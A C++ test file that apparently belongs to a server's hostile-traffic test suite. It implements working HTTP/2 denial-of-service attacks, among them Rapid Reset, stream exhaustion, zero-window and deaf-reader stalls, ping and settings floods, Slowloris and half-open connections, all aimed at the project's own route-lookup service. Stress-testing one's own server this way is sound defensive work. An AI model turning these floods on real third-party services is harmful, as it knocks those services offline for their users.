// SPDX-License-Identifier: Apache-2.0

// Attacks by too much of what is allowed, or too little of what is needed.

#include <memory>
#include <string>
#include <vector>

#include "absl/time/clock.h"
#include "planb/v1/route_lookup.pb.h"
#include "server/testing/hostile_attacks.h"
#include "server/testing/raw_http2.h"

namespace planb::server {
namespace {

using http2::Frame;
using http2::Preface;
using http2::RawConnection;

constexpr char kBatchLookup[] = "/planb.v1.RouteLookup/BatchLookup";

// Calls of `path` opened and reset, as fast as can be sent.
void ResetCalls(Attacker& attacker, const char* path, bool acknowledge) {
  constexpr uint32_t kAtOnce = 64;
  RawConnection connection(attacker.target());
  connection.Send(Preface() + (acknowledge ? http2::SettingsAck() : ""));
  for (uint32_t stream = 1; attacker.Go(kAtOnce);) {
    std::string bytes;
    for (uint32_t i = 0; i < kAtOnce; ++i, stream += 2) {
      bytes += http2::OpenCall(stream, path) + http2::RstStream(stream);
    }
    if (!connection.Send(bytes)) return;
  }
}

void RapidReset(Attacker& attacker) {
  ResetCalls(attacker, kBatchLookup, true);
}

void RapidResetOfChanges(Attacker& attacker) {
  ResetCalls(attacker, "/planb.v1.RouteTable/GetTable", false);
}

// Calls opened and left so, more than the connection may have: on a connection
// that never acknowledges the limit, so as not to be bound by it.
void ManyStreams(Attacker& attacker) {
  constexpr uint32_t kAtOnce = 50;
  RawConnection connection(attacker.target());
  connection.Send(Preface());
  for (uint32_t stream = 1; attacker.Go(kAtOnce);) {
    std::string bytes;
    for (uint32_t i = 0; i < kAtOnce; ++i, stream += 2) {
      bytes += http2::OpenCall(stream, kBatchLookup);
    }
    if (!connection.Send(bytes)) return;
  }
}

// Sends batches and lets no reply come: its window is shut from the start.
void ZeroWindow(Attacker& attacker) {
  v1::BatchLookupRequest request;
  request.set_addresses_v6(std::string(16 * 900, '\x20'));
  const std::string batch = http2::Message(request.SerializeAsString());
  RawConnection connection(attacker.target());
  connection.Send(Preface(http2::Setting(http2::kInitialWindowSize, 0)) +
                  http2::SettingsAck());
  for (uint32_t stream = 1; attacker.Go(); stream += 2) {
    if (!connection.Send(http2::OpenCall(stream, kBatchLookup))) return;
    for (int i = 0; i < 100; ++i) {
      if (connection.SendData(stream, batch, absl::Milliseconds(20))) continue;
      if (!connection.open()) return;
      break;
    }
  }
}

// Sends batches, and has the socket fill up with the replies.
void DeafReader(Attacker& attacker) {
  v1::BatchLookupRequest request;
  request.set_addresses_v6(std::string(16 * 10, '\x20'));
  const std::string batch =
      Frame(http2::kData, 0, 1, http2::Message(request.SerializeAsString()));
  RawConnection connection(attacker.target());
  connection.SendDeaf(Preface() + http2::SettingsAck() +
                      http2::OpenCall(1, kBatchLookup));
  while (attacker.Go() && connection.SendDeaf(batch, absl::Milliseconds(500))) {
    continue;
  }
}

// `bytes` again and again, `frames` of them, on a connection of its own.
void Repeat(Attacker& attacker, const std::string& frame, bool deaf = false) {
  constexpr int kAtOnce = 200;
  std::string frames;
  for (int i = 0; i < kAtOnce; ++i) frames += frame;
  RawConnection connection(attacker.target());
  connection.Send(Preface() + http2::SettingsAck() +
                  http2::OpenCall(1, kBatchLookup));
  while (attacker.Go(kAtOnce)) {
    const bool sent = deaf
                          ? connection.SendDeaf(frames, absl::Milliseconds(500))
                          : connection.Send(frames);
    if (!sent) return;
  }
}

void PingFlood(Attacker& attacker) {
  Repeat(attacker, Frame(http2::kPing, 0, 0, "12345678"));
}

// So that the answers pile up at the server.
void DeafPingFlood(Attacker& attacker) {
  Repeat(attacker, Frame(http2::kPing, 0, 0, "12345678"), true);
}

void SettingsFlood(Attacker& attacker) {
  Repeat(attacker, Frame(http2::kSettings, 0, 0,
                         http2::Setting(http2::kInitialWindowSize, 65'535)));
}

void DeafSettingsFlood(Attacker& attacker) {
  Repeat(attacker, Frame(http2::kSettings, 0, 0, ""), true);
}

void EmptyData(Attacker& attacker) {
  Repeat(attacker, Frame(http2::kData, 0, 1, ""));
}

void UnknownFrames(Attacker& attacker) {
  Repeat(attacker, Frame(0xfa, 0, 0, "unknown"));
}

void WindowUpdates(Attacker& attacker) {
  Repeat(attacker, Frame(http2::kWindowUpdate, 0, 0, http2::BigEndian(1, 4)));
}

// Fifty connections that say what a sound client would, an byte at a time.
void Slowloris(Attacker& attacker) {
  const std::string bytes =
      Preface() + http2::SettingsAck() + http2::OpenCall(1, kBatchLookup);
  std::vector<std::unique_ptr<RawConnection>> connections;
  for (int i = 0; i < 50; ++i) {
    connections.push_back(std::make_unique<RawConnection>(attacker.target()));
  }
  for (const char byte : bytes) {
    for (const auto& connection : connections) {
      if (!attacker.Go()) return;
      connection->Send(absl::string_view(&byte, 1));
    }
    absl::SleepFor(absl::Milliseconds(100));
  }
}

void ConnectAndClose(Attacker& attacker) {
  const RawConnection connection(attacker.target());
  attacker.Go();
}

// Five hundred connections that say nothing, or nothing after the preface.
void HalfOpen(Attacker& attacker) {
  std::vector<std::unique_ptr<RawConnection>> connections;
  for (int i = 0; i < 500 && attacker.Go(); ++i) {
    connections.push_back(std::make_unique<RawConnection>(attacker.target()));
    if (i % 2 == 0) connections.back()->Send(Preface());
  }
  absl::SleepFor(absl::Milliseconds(100));
}

}  // namespace

absl::Span<const Attack> FloodAttacks() {
  static constexpr Attack kAttacks[] = {
      {"RapidReset", "call", RapidReset, Attack::kEdge},
      {"RapidResetOfChanges", "call", RapidResetOfChanges, Attack::kEdge},
      {"ManyStreams", "call", ManyStreams, Attack::kEdge},
      {"ZeroWindow", "call", ZeroWindow},
      {"DeafReader", "batch", DeafReader},
      {"PingFlood", "frame", PingFlood, Attack::kEdge},
      {"DeafPingFlood", "frame", DeafPingFlood, Attack::kEdge},
      {"SettingsFlood", "frame", SettingsFlood, Attack::kEdge},
      {"DeafSettingsFlood", "frame", DeafSettingsFlood, Attack::kEdge},
      {"EmptyData", "frame", EmptyData, Attack::kEdge},
      {"UnknownFrames", "frame", UnknownFrames, Attack::kEdge},
      {"WindowUpdates", "frame", WindowUpdates, Attack::kEdge},
      {"Slowloris", "byte", Slowloris},
      {"ConnectAndClose", "connection", ConnectAndClose},
      {"HalfOpen", "connection", HalfOpen},
  };
  return kAttacks;
}

}  // namespace planb::server
